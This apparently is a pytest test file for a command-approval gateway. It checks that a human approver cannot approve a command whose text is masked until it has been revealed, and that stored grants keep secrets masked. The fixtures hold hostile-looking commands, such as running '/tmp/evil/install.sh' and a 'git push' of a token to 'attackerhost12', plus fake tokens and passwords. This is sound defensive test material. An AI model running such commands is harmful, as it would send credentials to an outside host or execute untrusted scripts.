"""What a mask could hide is decided where it was revealed, whatever a click claims to have seen."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from gateway.domain.policy_document import Route
from gateway.domain.records import Remember, StoredRequest
from gateway.errors import BatchRefused, InvalidRequest
from gateway.models import Action, Kind, Status
from gateway.policy.grants.grant import Shape
from gateway.policy.grants.offers import offers
from tests.world import World, assembled, click, identity

HIDING = {
    "kind": Kind.COMMAND,
    "arguments": {"command": "xargs -a token /tmp/evil/install.sh"},
    "allowed": (Action.APPROVE, Action.EDIT, Action.RESPOND, Action.ABORT),
}
CONTENT: dict[Action, dict[str, Any]] = {
    Action.APPROVE: {},
    Action.EDIT: {"arguments": {"command": "ls"}},
    Action.RESPOND: {"result": "no"},
}


async def status(world: World, record: StoredRequest) -> Status:
    """Return how a request stands."""
    return (await world.core.requests.get(record.id)).status


@pytest.mark.parametrize("action", CONTENT)
async def test_a_click_made_where_it_is_masked_lets_nothing_run(
    world: World, action: Action
) -> None:
    """Forged or old, it is refused and says where to go; on a revealed card it decides."""
    record = await world.submit(**HIDING)
    tap = click(record, action, **CONTENT[action])
    with pytest.raises(InvalidRequest, match="only in the inbox"):
        await world.core.requests.decide(tap)
    assert await status(world, record) is Status.PENDING
    assert (await world.core.requests.decide(replace(tap, revealed=True))).status is Status.APPROVED


async def test_two_gateways_of_a_process_share_no_proof(
    world: World, server_url: str, namespace: str
) -> None:
    """What one found about a request is unknown to the other, which refuses all the same."""
    record = await world.submit(**HIDING)
    async with assembled(server_url, namespace) as other:
        with pytest.raises(InvalidRequest, match="only in the inbox"):
            await world.core.requests.decide(click(record))
        assert world.core.proofs.recall(record) is True
        assert other.core.proofs.recall(record) is None
        with pytest.raises(InvalidRequest, match="only in the inbox"):
            await other.core.requests.decide(click(record))
        assert other.core.proofs.recall(record) is True


async def test_another_gateway_of_the_namespace_uses_the_stored_proof(
    world: World, server_url: str, namespace: str
) -> None:
    """It checks no masks again before it decides what another gateway took in."""
    record = await world.submit()
    async with assembled(server_url, namespace) as other:
        stored = await other.core.requests.get(record.id)
        assert stored.proof == record.proof != ""
        assert other.core.proofs.recall(stored) is False
        decided = await other.core.requests.decide(click(stored))
    assert decided.status is Status.APPROVED


async def test_a_proof_that_was_put_into_redis_unmasks_nothing(
    world: World, server_url: str, namespace: str
) -> None:
    """A proof of another request, and an invented one, are checked and refused."""
    record, safe = await world.submit(**HIDING), await world.submit()
    key = world.store.keys.record(record.id)
    async with assembled(server_url, namespace) as other:
        for forged in (safe.proof, "0" * 32):
            await world.store.redis.hset(key, "proof", forged)
            assert (await other.core.requests.get(record.id)).proof == forged
            with pytest.raises(InvalidRequest, match="only in the inbox"):
                await other.core.requests.decide(click(record))
    assert await status(world, record) is Status.PENDING


async def test_an_edit_makes_the_proof_worthless(
    world: World, server_url: str, namespace: str
) -> None:
    """What a person writes instead is checked again, at every gateway."""
    await world.route(Route(approvers=("ann", "bob"), quorum=2))
    record = await world.submit()
    edit = click(record, Action.EDIT, arguments={"command": "ls -l"})
    edited = await world.core.requests.decide(edit)
    assert edited.status is Status.PENDING
    async with assembled(server_url, namespace) as other:
        stored = await other.core.requests.get(record.id)
        assert stored.proof == record.proof
        assert other.core.proofs.recall(stored) is None


@pytest.mark.parametrize("action", [Action.DENY, Action.ABORT])
async def test_no_is_possible_all_the_same(world: World, action: Action) -> None:
    """Who sees only a mask may well say no."""
    record = await world.submit(**HIDING)
    assert (await world.core.requests.decide(click(record, action))).status is Status.DENIED


async def test_a_vote_and_a_batch_are_refused_as_well(world: World) -> None:
    """Each of a quorum reveals it, and no batch approves it."""
    await world.route(Route(approvers=("ann", "bob"), quorum=2))
    record, other = await world.submit(**HIDING), await world.submit()
    voted = await world.core.requests.decide(click(record, revealed=True))
    with pytest.raises(InvalidRequest, match="only in the inbox"):
        await world.core.requests.decide(click(voted, identity=identity("bob")))
    with pytest.raises(BatchRefused) as refused:
        await world.core.requests.decide_all([click(other), click(record)])
    assert list(refused.value.reasons) == [record.id]
    assert await status(world, other) is Status.PENDING


async def test_what_an_edit_put_in_is_judged_anew(world: World) -> None:
    """A partner, who sees the editor's words masked, approves them revealed only."""
    await world.route(Route(approvers=("ann", "bob"), quorum=2))
    record = await world.submit(**{**HIDING, "arguments": {"command": "ls"}})
    edit = click(record, Action.EDIT, arguments=HIDING["arguments"])
    edited = await world.core.requests.decide(edit)
    partner = click(edited, identity=identity("bob"))
    with pytest.raises(InvalidRequest, match="only in the inbox"):
        await world.core.requests.decide(partner)
    assert (await world.core.requests.decide(replace(partner, revealed=True))).final


async def test_words_that_hide_something_are_not_remembered_unrevealed(world: World) -> None:
    """An offer's id can be forged; its words put together what stood apart."""
    command = ["git", "push", "token", "attackerhost12"]
    record = await world.submit(**{**HIDING, "arguments": {"argv": command}})
    offer = next(one for one in offers(record) if one.match.shape is Shape.PATTERN)
    tap = click(record, remember=Remember(offer=offer.id))
    with pytest.raises(InvalidRequest, match="masked text hides what this grant would cover"):
        await world.core.requests.decide(tap)
    assert await status(world, record) is Status.PENDING
    assert (await world.core.requests.decide(replace(tap, revealed=True))).final


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ("make deploy TOKEN=ghp_" + "a1B2" * 9, "ghp_"),
        ("git push https://u:pw12@h/r", "pw12"),
    ],
)
async def test_a_kept_grant_says_no_secret(world: World, text: str, secret: str) -> None:
    """Each offer that was revealed may be remembered; what is kept of its words is masked."""
    record = await world.submit(**{**HIDING, "arguments": {"command": text}})
    made = offers(record)
    assert any(secret in one.words for one in made)
    wide = next(one for one in made if secret in one.words)
    await world.core.requests.decide(click(record, remember=Remember(offer=wide.id), revealed=True))
    (grant,) = await world.core.grants.all()
    assert secret not in grant.words and "secret of" in grant.words


async def test_no_click_waits_for_the_proof(world: World) -> None:
    """It is made when the request comes in; for a large one when its first card is drawn."""
    small = await world.submit(arguments={"command": "ls"})
    large = await world.submit(arguments={"command": "ls " + "a" * 60_000})
    assert world.core.proofs.recall(small) is False
    assert world.core.proofs.recall(large) is None
